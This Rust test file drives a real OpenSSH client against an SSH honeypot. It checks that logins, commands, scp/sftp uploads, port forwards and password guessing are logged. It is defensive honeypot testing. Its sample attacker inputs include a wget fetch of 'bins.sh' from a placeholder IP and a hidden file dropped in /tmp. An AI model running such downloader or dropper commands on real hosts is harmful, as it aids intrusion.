//! A real OpenSSH client against the SSH trap.

use crate::bed::{self, PASSWORD, Sensor, USER, closed, has, kinds};
use logwire::attack::{AuthMethod, What};
use sha2::{Digest, Sha256};
use std::path::Path;
use std::process::Stdio;
use tokio::io::AsyncWriteExt;

struct Ran {
    out: String,
    err: String,
    status: Option<i32>,
}

#[allow(clippy::disallowed_methods, reason = "a test meets the trap with a real client")]
async fn client(program: &str, sensor: &Sensor, options: &[&str], words: &[&str], input: &[u8]) -> Ran {
    let port = sensor.ssh.port().to_string();
    let flag = if program == "scp" { "-P" } else { "-p" };
    let mut child = tokio::process::Command::new("sshpass")
        .args(["-p", PASSWORD, program, "-F", "none", flag, &port])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "GlobalKnownHostsFile=/dev/null",
        ])
        .args(["-o", "PubkeyAuthentication=no", "-o", "LogLevel=ERROR"])
        .args(options)
        .args(words)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(input).await.unwrap();
    drop(stdin);
    let output =
        tokio::time::timeout(std::time::Duration::from_secs(60), child.wait_with_output()).await.unwrap().unwrap();
    Ran {
        out: String::from_utf8_lossy(&output.stdout).into_owned(),
        err: String::from_utf8_lossy(&output.stderr).into_owned(),
        status: output.status.code(),
    }
}

fn ready() -> bool {
    bed::have("sshpass") && bed::have("ssh")
}

const HOST: &str = "root@127.0.0.1";

#[tokio::test(flavor = "multi_thread")]
async fn logs_in_and_runs_commands() {
    if !ready() {
        return;
    }
    let (centre, sensor, _dir) = bed::pair().await;
    let ran = client(
        "ssh",
        &sensor,
        &["-o", "PreferredAuthentications=password"],
        &[HOST, "uname -a; wget http://203.0.113.9/bins.sh; exit 3"],
        b"",
    )
    .await;
    assert!(ran.out.contains("Linux ") && ran.out.contains("failed: Connection timed out"), "{} {}", ran.out, ran.err);
    assert_eq!(ran.status, Some(3));
    let events = centre.until("closed session", |e| closed(e) == 1).await;
    let seen = kinds(&events);
    assert_eq!(seen[..2], ["conn.open", "proto.fingerprint"], "{seen:?}");
    assert!(has(
        &events,
        |w| matches!(w, What::Fingerprint { version, hassh: Some(h) } if version.starts_with("SSH-2.0-OpenSSH_") && h.len() == 32)
    ));
    assert!(has(&events, |w| matches!(w, What::Auth { method: AuthMethod::None, success: false, .. })));
    assert!(has(
        &events,
        |w| matches!(w, What::Auth { user, password, method: AuthMethod::Password, success: true, .. } if user == USER && password == PASSWORD)
    ));
    assert!(has(&events, |w| matches!(w, What::Command { line } if line.starts_with("uname -a;"))));
    assert!(has(&events, |w| matches!(w, What::FileRef { url } if url == "http://203.0.113.9/bins.sh")));
    assert!(events.iter().all(|e| e.session == events[0].session
        && e.src_ip.to_string() == "127.0.0.1"
        && e.dst_port == sensor.ssh.port()));
    sensor.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn types_into_a_terminal_and_leaves_files() {
    if !ready() {
        return;
    }
    let (centre, sensor, _dir) = bed::pair().await;
    let ran = client("ssh", &sensor, &["-tt"], &[HOST], b"whoami\necho payload > /tmp/.x\ncat /tmp/.x\nexit\n").await;
    assert!(ran.out.contains("root\r\n") && ran.out.contains("payload\r\n") && ran.out.contains(":~# "), "{}", ran.out);
    let events = centre.until("closed session", |e| closed(e) == 1).await;
    let asked = |w: &What| matches!(w, What::Auth { password, method: AuthMethod::Interactive, success: true, .. } if password == PASSWORD);
    assert!(has(&events, asked), "OpenSSH prefers keyboard-interactive where it is offered");
    let sum = hex::encode(Sha256::digest(b"payload\n"));
    assert!(has(
        &events,
        |w| matches!(w, What::FileIn { sha256, name: Some(n), .. } if *sha256 == sum && n == "/tmp/.x")
    ));
    sensor.stop().await;
}

fn sample(dir: &Path, size: usize) -> (String, String) {
    let data: Vec<u8> = (0..size).map(|n| u8::try_from(n * 7 % 251).unwrap()).collect();
    let path = dir.join("sample.bin");
    std::fs::write(&path, &data).unwrap();
    (path.to_string_lossy().into_owned(), hex::encode(Sha256::digest(&data)))
}

#[tokio::test(flavor = "multi_thread")]
async fn uploads_by_scp_sftp_and_cat_are_hashed() {
    if !ready() {
        return;
    }
    let (centre, sensor, dir) = bed::pair().await;
    for (index, (old, size)) in [(true, 300_000), (false, 200_000)].into_iter().enumerate() {
        let (path, sum) = sample(dir.path(), size);
        let options: &[&str] = if old { &["-O"] } else { &[] };
        let target = format!("{HOST}:/tmp/up");
        let ran = client("scp", &sensor, options, &[&path, &target], b"").await;
        assert_eq!(ran.status, Some(0), "old {old}: {} {}", ran.out, ran.err);
        let events = centre.until("closed session", |e| closed(e) == index + 1).await;
        let whole = |w: &What| matches!(w, What::FileIn { sha256, name: Some(n), size: Some(s), .. } if *sha256 == sum && n == "/tmp/up" && *s == size as u64);
        assert!(has(&events, whole), "old {old}: {:?}", kinds(&events));
    }
    let (path, sum) = sample(dir.path(), 150_000);
    let ran = client("ssh", &sensor, &[], &[HOST, "cat > /tmp/c; ls /tmp"], &std::fs::read(path).unwrap()).await;
    assert_eq!(ran.out, "c\n");
    let events = centre.until("closed session", |e| closed(e) == 3).await;
    let named: Vec<&What> = events.iter().map(|e| &e.what).filter(|w| matches!(w, What::FileIn { .. })).collect();
    assert_eq!(named.len(), 3, "each upload is one event: {named:?}");
    assert!(has(&events, |w| matches!(w, What::FileIn { sha256, .. } if *sha256 == sum)));
    // Beyond the limit the disk is full.
    let (path, _) = sample(dir.path(), 1_200_000);
    let ran = client("scp", &sensor, &["-O"], &[&path, &format!("{HOST}:/tmp/big")], b"").await;
    assert!(ran.status != Some(0) && ran.err.contains("No space left on device"), "{}", ran.err);
    sensor.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn forwards_are_recorded_and_never_dialled() {
    if !ready() {
        return;
    }
    let (centre, sensor, _dir) = bed::pair().await;
    let forbidden = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let target = forbidden.local_addr().unwrap();
    let wanted = target.to_string();
    client("ssh", &sensor, &["-W", &wanted], &[HOST], b"GET http://a.example/ HTTP/1.1\r\nUser-Agent: probe\r\n\r\n")
        .await;
    let events = centre.until("closed session", |e| closed(e) == 1).await;
    assert!(has(
        &events,
        |w| matches!(w, What::Forward { host, port } if host == "127.0.0.1" && *port == target.port())
    ));
    assert!(has(&events, |w| matches!(w, What::Request { verb, agent: Some(a), .. } if verb == "GET" && a == "probe")));
    let dialled = tokio::time::timeout(std::time::Duration::from_millis(300), forbidden.accept()).await;
    assert!(dialled.is_err(), "the sensor dialled the target");
    let ran =
        client("ssh", &sensor, &["-o", "ExitOnForwardFailure=yes", "-R", "8022:127.0.0.1:22"], &[HOST, "id"], b"")
            .await;
    assert_eq!(ran.status, Some(255), "a remote forward must be refused");
    sensor.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn guessing_ends_after_six_tries_and_keys_are_fingerprinted() {
    if !ready() || !bed::have("ssh-keygen") {
        return;
    }
    let (centre, sensor, dir) = bed::pair().await;
    let key = dir.path().join("id").to_string_lossy().into_owned();
    #[allow(clippy::disallowed_methods, reason = "a test meets the trap with a real client's key")]
    let made = tokio::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f", &key])
        .status()
        .await
        .unwrap();
    assert!(made.success());
    let identity = format!("IdentityFile={key}");
    // The first value of an option counts for OpenSSH, so the common options come with another user here.
    let ran =
        client("ssh", &sensor, &["-o", &identity, "-o", "NumberOfPasswordPrompts=9"], &["nobody@127.0.0.1", "id"], b"")
            .await;
    assert_ne!(ran.status, Some(0));
    let events = centre.until("closed session", |e| closed(e) == 1).await;
    let tried =
        events.iter().filter(|e| matches!(&e.what, What::Auth { method, .. } if *method != AuthMethod::None)).count();
    assert!((1..=6).contains(&tried), "{tried} attempts");
    sensor.stop().await;
}
